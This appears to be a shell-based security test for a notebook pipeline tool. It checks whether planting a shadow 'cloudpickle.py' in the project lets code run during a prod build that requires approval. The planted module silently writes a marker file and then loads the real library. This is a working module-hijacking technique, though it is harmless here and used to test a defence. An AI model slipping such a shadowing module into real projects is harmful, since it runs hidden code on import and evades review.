export PATH="$NBGOV_BIN:$PATH"
P="$ATTACK_DIR"; cd "$P"; MARK="$P/PWNED"; mkdir notebooks
printf 'pipeline = "pipeline.yaml"\nexperiment = "shadow"\n[environments.prod]\nrequire_approved = true\n' > nbgov.toml
printf 'tasks:\n  - source: notebooks/a.ipynb\n    product: products/a.ipynb\n' > pipeline.yaml
python - <<'E'
import json
c=lambda s,t=(): {"cell_type":"code","metadata":{"tags":list(t)},"source":s,"outputs":[],"execution_count":None}
json.dump({"cells":[c("upstream = None\nproduct = None",["parameters"]),c("x = 1")],
 "metadata":{"kernelspec":{"name":"python3","display_name":"Python 3","language":"python"}},"nbformat":4,"nbformat_minor":5},open("notebooks/a.ipynb","w"))
E
cat > cloudpickle.py <<E
import os, sys, importlib
open("$MARK", "w").write(repr(sys.argv))
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
E
git init -q; git -c user.name=a -c user.email=a@x add -A; git -c user.name=a -c user.email=a@x commit -qm i
nbgov build --environment prod -q; echo "build rc=$? (refused)"; sleep 1
[ -f "$MARK" ] && echo "RESULT=BROKEN" || echo "RESULT=HELD"
